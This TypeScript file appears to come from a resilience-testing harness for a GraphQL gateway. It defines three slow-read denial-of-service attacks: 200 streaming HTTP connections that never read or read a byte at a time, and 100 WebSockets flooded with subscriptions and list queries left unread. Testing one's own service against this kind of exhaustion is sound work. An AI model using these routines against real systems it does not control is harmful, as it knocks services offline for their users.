import type { Attack } from '../attack.ts';
import type { Attacker } from '../attacker/attacker.ts';
import { asEvents, stock, subscribe } from './live.ts';

const list = '{ products(first: 100) { nodes { id title description variants { id sku name } } } }';

/** Streams that nobody takes, or hardly. */
export const unread: readonly Attack[] = [
  {
    name: 'unread-streams',
    sentence: 'asks for lists and subscriptions as streams on 200 connections, and reads nothing',
    send: (attacker) => askForStreams(attacker, { isSlow: false }),
  },
  {
    name: 'a-byte-a-second',
    sentence: 'asks for lists and subscriptions as streams on 200 connections, and reads slowly',
    send: (attacker) => askForStreams(attacker, { isSlow: true }),
  },
  {
    name: 'unread-web-sockets',
    sentence:
      'asks for 20 subscriptions and 200 lists on each of 100 WebSockets, and reads nothing',
    async send(attacker) {
      const { flood, wait, target } = attacker;
      const questions = [
        ...target.variantIds.slice(0, 20).map((id) => ({ query: stock, variables: { ids: [id] } })),
        ...Array.from({ length: 200 }, () => ({ query: list })),
      ];
      await flood({ atOnce: 8, count: 100 }, async () => {
        await subscribe(attacker, questions, { isUnread: true });
      });
      await wait();
    },
  },
];

async function askForStreams(
  { connect, wait, target: { gateway, token, variantIds } }: Attacker,
  { isSlow }: { isSlow: boolean },
): Promise<void> {
  const questions = [{ query: stock, variables: { ids: variantIds } }, { query: list }];
  for (let number = 0; number < 200; number += 1) {
    const body = JSON.stringify(questions[number % questions.length]);
    const headers = { ...asEvents(token), 'content-length': Buffer.byteLength(body) };
    const lines = Object.entries(headers).map(([name, value]) => `${name}: ${value}`);
    const connection = connect(gateway, { isSlow });
    if (!isSlow) connection.stopReading();
    connection.write(
      `POST /graphql HTTP/1.1\r\nhost: localhost\r\n${lines.join('\r\n')}\r\n\r\n${body}`,
    );
  }
  await wait();
}
